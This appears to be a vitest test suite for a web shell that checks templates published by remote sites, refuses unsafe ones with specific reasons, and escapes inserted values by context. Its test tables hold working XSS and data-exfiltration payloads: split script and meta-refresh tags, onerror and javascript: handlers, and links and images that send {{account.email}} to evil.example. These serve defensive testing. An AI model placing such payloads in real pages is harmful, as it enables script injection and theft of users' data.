import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startTestSite, until, type TestSite } from './site/site.ts';

const fragment = 'fragments/mine.html';
const paths = ['/mine', '/bread'];

/** What the api's stand-in says of every visitor. */
let apiAnswer: object = {};
const apiRequests: string[] = [];
let api: Server;
let site: TestSite;
let count = 1;

beforeAll(async () => {
  api = createServer((request, response) => {
    apiRequests.push(request.url ?? '');
    response.end(JSON.stringify(apiAnswer));
  });
  await new Promise<void>((listening) => api.listen(0, '127.0.0.1', listening));
  site = await startTestSite(['bakery', 'butcher'], {
    SITE_ORIGIN: 'http://localhost:3000',
    SITE_NAME: 'The "Site" & <sons>',
    API_URL: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
    PAGE_DATA: 'bakery=/api/mine/',
  });
  await publish('<h1>The first</h1>');
  await site.startShell();
});
afterAll(async () => {
  await site.close();
  api.close();
});

/** Publishes a release whose page is this template. @returns its version */
async function publish(html: string, data = '/api/mine/page'): Promise<string> {
  const version = `1.${count++}`;
  const declares = { '/mine': { data, fragment } };
  await site.publish({ remote: 'bakery', version, paths, files: { [fragment]: html }, declares });
  return version;
}

async function refusalOf(version: string, remote = 'bakery'): Promise<string | undefined> {
  const find = async () =>
    (await site.state()).refused.find((each) => each.version === version && each.remote === remote)?.reason;
  await until(async () => (await find()) !== undefined, `${remote} ${version} is refused`);
  return find();
}

/** The page's own part, filled with these values. */
async function shown(html: string, values: object): Promise<string> {
  apiAnswer = values;
  const version = await publish(`<p>v1.${count}</p>${html}`);
  await site.untilShown('/en/mine', `<p>v${version}</p>`);
  const page = await (await site.get('/en/mine')).text();
  return /<p>v[\d.]+<\/p>(.*?)<\/div><\/main>/s.exec(page)?.[1] ?? page;
}

const inName = 'in the name of an element';
const inAttributeName = 'in the name of an attribute';
const nowhere = 'in no text and no attribute';

test.each([
  ['<m{{x}}eta http-equiv=refresh content="0;url=https://evil.example/?{{account.email}}">', inName],
  ['<s{{x}}cript>alert(1)</s{{x}}cript>', inName],
  ['<b{{x}}ase href="https://evil.example/">', inName],
  ['<if{{x}}rame src="/"></iframe>', inName],
  ['<{{x}}script>alert(1)</script>', inName],
  ['<img src="/x" o{{x}}nerror="alert(1)">', inAttributeName],
  ['<p {{x}}>x</p>', inAttributeName],
  ['<p {{#x}}onclick="alert(1)"{{/x}}>x</p>', inAttributeName],
  ['<p title={{x}}>x</p>', 'in title of p, which has no quotation marks'],
  ['<p title="a" title="{{x}}">x</p>', nowhere],
  ['<div>x</d{{x}}iv>y</div>', nowhere],
  ['<!-- {{x}} -->', 'in a comment'],
  ['<!doctype {{x}}>', nowhere],
  ['<a href="java{{x}}script:alert(1)">x</a>', 'in href of a'],
  ['<a href="{{x}}">x</a>', 'in href of a'],
  ['<a href="{{x}}?y">x</a>', 'in href of a'],
  ['<a href="/{{x}}/evil.example">x</a>', 'in href of a'],
  ['<a href="https://evil.example/?{{account.email}}">x</a>', 'in href of a'],
  ['<a href="//evil.example/?{{account.email}}">x</a>', 'in href of a'],
  ['<a href="/x?{{#x}}y{{/x}}">x</a>', 'in href of a'],
  ['<svg><a xlink:href="{{x}}"><text>x</text></a></svg>', 'in href of a'],
  ['<svg><a><set attributeName="href" to="{{x}}" /></a></svg>', 'in to of set'],
  ['<img src="https://evil.example/{{account.email}}" alt="">', 'in src of img'],
  ['<img srcset="https://evil.example/{{account.email}} 1x" alt="">', 'in srcset of img'],
  ['<form action="/{{x}}"></form>', 'in action of form'],
  ['<form><button formaction="{{x}}">x</button></form>', 'in formaction of button'],
  ['<form method="{{x}}"></form>', 'in method of form'],
  ['<link rel="preload" as="image" href="/r/{{x}}">', 'in href of link'],
  ['<p style="background: url({{x}})">x</p>', 'in style of p'],
  ['<p onclick="{{x}}">x</p>', 'in onclick of p'],
  ['<div data-island="{{x}}"></div>', 'in data-island of div'],
  ['<div data-island="part" data-props="{{x}}"></div>', 'in data-props of div'],
  [`<div data-island="part" data-props='{"{{x}}":1}'></div>`, 'in data-props of div'],
  [`<div data-island="part" data-props='{"a":{{x}}}'></div>`, 'in data-props of div'],
  ['<noscript><p title="</noscript><m{{x}}eta http-equiv=refresh content=0>"></p></noscript>', inName],
  ['<xmp>{{x}}</xmp>', 'in xmp'],
  ['<p title="{{#x}}" class="{{/x}}">x</p>', 'which ends in another element, at {{/x}}'],
  ['<p title="{{#x}}a">x{{/x}}</p>', 'which ends in another element, at {{/x}}'],
  ['{{#x}}<!--{{/x}}<p title="--><script>alert(1)</script>">x</p>', 'in a comment'],
  ['{{#x}}<p>{{/x}}x</p>', 'which ends in another element, at {{/x}}'],
  ['{{^x}}<b>{{/x}}</b>', 'which ends in another element, at {{/x}}'],
  ['<table>{{#x}}<tr><td>{{/x}}x</td></tr></table>', 'which ends in another element, at {{/x}}'],
])('R4 S1 F-template-tags a page with %j is refused, by its address and the tag', async (html, where) => {
  const reason = await refusalOf(await publish(`<h1>x</h1>${html}`));
  expect(reason).toContain(`${fragment}: `);
  expect(reason).toMatch(/\/mine has the template tag \{\{[#^/]?[a-z.]+\}\} /);
  expect(reason).toContain(where);
});

test.each([
  ['{{#x}}<script>alert(1)</script>{{/x}}', /has the element script/],
  ['{{^x}}<base href="https://evil.example/">{{/x}}', /has the element base/],
  ['{{#x}}{{^y}}<iframe src="/"></iframe>{{/y}}{{/x}}', /has the element iframe/],
  ['</d{{x}}iv></main><p>beside the page</p>', /does not stay in its place/],
  ['{{#x}}</main>{{/x}}', /does not stay in its place/],
  ['<p title="{{^x}}a{{/x}}" onclick="alert(1)">x</p>', /event handler/],
  ['{{#x}}'.repeat(30) + '{{/x}}'.repeat(30), /nests more than 20 template sections/],
  ['{[[site.since]]{x}[[site.since]]}', /a placeholder is part of a template tag/],
])('R4 S1 F-template-tags what a section brings is verified: %j is refused', async (html, reason) => {
  expect(await refusalOf(await publish(`<h1>x</h1>${html}`))).toMatch(reason);
});

test('R6 S1 F-template-tags a value is escaped for where it stands', async () => {
  const hostile = `"}'><script>&amp;\\ ?#/{{x}}`;
  const html = await shown(
    `<b>{{x}}</b><i title="{{x}}"></i><a href="/en/bread?a={{x}}&amp;b=1#{{x}}">x</a>` +
      `<div data-island="part" data-props="{&quot;a&quot;:&quot;{{x}}&quot;,&quot;b&quot;:1}"></div>`,
    { x: hostile },
  );
  expect(html).not.toContain('<script>');
  const decoded = (text = '') =>
    text
      .replaceAll(/&#x([0-9A-F]+);/gi, (_, code: string) => String.fromCharCode(parseInt(code, 16)))
      .replaceAll('&#39;', "'")
      .replaceAll('&quot;', '"')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&');
  const attribute = (name: string) => decoded(new RegExp(` ${name}="([^"]*)"`).exec(html)?.[1]);
  expect(decoded(/<b>(.*?)<\/b>/.exec(html)?.[1])).toBe(hostile);
  expect(attribute('title')).toBe(hostile);
  const href = new URL(attribute('href'), 'http://site');
  expect([href.searchParams.get('a'), href.searchParams.get('b')]).toEqual([hostile, '1']);
  expect(decodeURIComponent(href.hash)).toBe(`#${hostile}`);
  expect(JSON.parse(attribute('data-props'))).toEqual({ a: hostile, b: 1 });
});

test('R6 F-template-tags the site’s own values are escaped in an island’s JSON too', async () => {
  const props = `<div data-island="part" data-props="{&quot;a&quot;:&quot;[[site.name]]&quot;}"></div>`;
  const html = await shown(`<h1>[[site.name]]</h1>${props}`, {});
  expect(html).toContain('<h1>The &quot;Site&quot; &amp; &lt;sons&gt;</h1>');
  expect(html).toContain(
    'data-props="{&quot;a&quot;:&quot;The \\&quot;Site\\&quot; &amp; &lt;sons&gt;&quot;}"',
  );
});

test('R6 F-template-tags sections repeat rows of a table, choices of a list and words of an attribute', async () => {
  const html = await shown(
    '<table><tbody>{{#rows}}<tr><td>{{a}}</td></tr>{{/rows}}</tbody></table>' +
      '<select>{{#rows}}<option value="{{a}}">{{a}}</option>{{/rows}}</select>' +
      '<p class="x {{#late}}late{{/late}}{{^late}}soon{{/late}}">{{^rows}}none{{/rows}}</p><textarea>{{late}}</textarea>',
    { rows: [{ a: 1 }, { a: 2 }], late: '<b>' },
  );
  expect(html).toBe(
    '<table><tbody><tr><td>1</td></tr><tr><td>2</td></tr></tbody></table>' +
      '<select><option value="1">1</option><option value="2">2</option></select>' +
      '<p class="x late"></p><textarea>&lt;b&gt;</textarea>',
  );
});

test('R4 S1 F-data-endpoints a remote shows the data of its own endpoints alone', async () => {
  for (const endpoint of ['/api/account/page', '/api/mine', '/api/mines/page']) {
    const reason = await refusalOf(await publish('<h1>x</h1>', endpoint));
    expect(reason).toContain(`/mine names the data ${endpoint}, which bakery is not given (PAGE_DATA)`);
  }
  const declares = { '/meat': { data: '/api/mine/page' } };
  await site.publish({ remote: 'butcher', version: '1', paths: ['/meat'], declares });
  expect(await refusalOf('1', 'butcher')).toContain('which butcher is not given');
});

test('R4 S1 F-data-endpoints a release from before the list shows no data that its remote is not given', async () => {
  const html = '{{#name}}<h1>Hello {{name}}</h1>{{/name}}{{#unavailable}}<h1>Later</h1>{{/unavailable}}';
  expect(await shown(html, { name: 'Ada' })).toBe('<h1>Hello Ada</h1>');
  await site.stopShell();
  await site.startShell({ PAGE_DATA: 'butcher=/api/mine/' });
  const before = apiRequests.length;
  const answer = await site.get('/en/mine');
  expect([answer.status, (await answer.text()).includes('<h1>Later</h1>')]).toEqual([503, true]);
  expect(apiRequests.length).toBe(before);
});
